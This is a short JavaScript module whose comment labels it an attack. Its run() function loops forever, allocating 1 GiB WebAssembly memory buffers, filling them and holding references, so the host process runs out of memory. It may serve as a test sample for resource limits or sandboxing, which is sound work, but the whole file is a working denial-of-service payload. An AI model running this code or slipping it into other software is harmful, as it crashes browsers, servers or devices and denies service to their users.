// Attack: takes memory for WebAssembly.
export function run() {
  const all = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 16384, maximum: 65536 });
    new Uint8Array(memory.buffer).fill(1);
    all.push(memory);
  }
}
